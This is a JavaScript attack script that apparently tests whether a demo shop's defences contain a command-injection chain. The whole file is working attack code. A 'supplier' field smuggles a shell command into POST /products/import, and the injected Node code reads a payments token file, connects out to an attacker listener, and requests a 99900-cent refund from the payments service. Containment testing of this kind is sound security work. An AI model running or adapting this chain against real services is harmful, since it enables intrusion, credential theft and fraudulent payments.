// The attack: one request through the public API makes catalog start a shell, read a credential, call out, and ask
// payments for a refund. `attack.mjs --base URL --listener HOST:PORT`. Prints {name, startedAt, status, steps}.
// The listener greets whoever connects with a line, so that "connected" means that bytes really came through.
const option = (name, fallback) =>
  process.argv.includes(name) ? process.argv[process.argv.indexOf(name) + 1] : fallback;
const base = option('--base', 'http://127.0.0.1:7001');
const [host, port] = option('--listener', '127.66.6.9:4444').split(':');

const inside = `
const say = (step, ok, detail) => process.stdout.write(JSON.stringify({ step, ok, at: Date.now(), detail }) + String.fromCharCode(10));
const net = require("node:net"), http = require("node:http"), fs = require("node:fs");
try { say("credential", true, fs.readFileSync("secrets/payments-token").length + " bytes"); } catch (e) { say("credential", false, e.code); }
const out = net.connect(${Number(port)}, "${host}");
let came = false, over = false;
out.setTimeout(4000, () => out.destroy());
out.on("data", () => { came = true; out.end(); });
out.on("error", () => {});
out.on("close", () => { if (over) return; over = true; say("connect", came, came ? "greeted" : "no bytes came back"); refund(); });
function refund() {
  const to = (process.env.PAYMENTS_ADDR || "payments.shop:7004").split(":");
  const sent = http.request({ host: to[0], port: Number(to[1]), method: "POST", path: "/refunds", timeout: 4000, headers: { "content-type": "application/json" } }, (r) => { r.resume(); say("refund", r.statusCode === 200, "status " + r.statusCode); });
  sent.on("timeout", () => sent.destroy(new Error("timeout")));
  sent.on("error", (e) => say("refund", false, e.code || e.message));
  sent.end(JSON.stringify({ cents: 99900 }));
}`.replaceAll('\n', ' ');
const supplier = `none; echo '{"step":"shell","ok":true}'; "$NODE" -e '${inside}'`;

const startedAt = Date.now();
let status = 0;
let said = '';
try {
  const response = await fetch(`${base}/products/import`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ supplier }),
    signal: AbortSignal.timeout(25_000),
  });
  status = response.status;
  const body = await response.json();
  said = body.said ?? '';
} catch {
  // refused, cut or contained: what was carried out is then unknown from here
}
const marks = new Map();
for (const line of said.split('\n')) {
  try {
    const mark = JSON.parse(line);
    marks.set(mark.step, mark);
  } catch {
    // not a mark
  }
}
// The service's own word for what the kernel did to it; whether that was a contract's doing is for others to say.
if (!marks.has('shell')) marks.set('shell', { ok: false, detail: /\b(EACCES|EPERM)\b/.exec(said)?.[1] ?? '' });
const step = (key, name, layer) => ({
  name,
  layer,
  at: marks.get(key)?.at ?? null,
  carriedOut: marks.get(key)?.ok === true,
  detail: marks.get(key)?.detail ?? '',
});
const steps = [
  {
    name: 'inject a command through POST /products/import',
    layer: 'api',
    at: startedAt,
    carriedOut: said !== '',
    detail: `status ${status}`,
  },
  step('shell', 'start a shell in catalog', 'runtime'),
  step('credential', 'read a credential', 'runtime'),
  step('connect', `connect out to ${host}:${port}`, 'network'),
  step('refund', 'call payments POST /refunds', 'api'),
];
process.stdout.write(`${JSON.stringify({ name: 'command injection in catalog', startedAt, status, steps })}\n`);
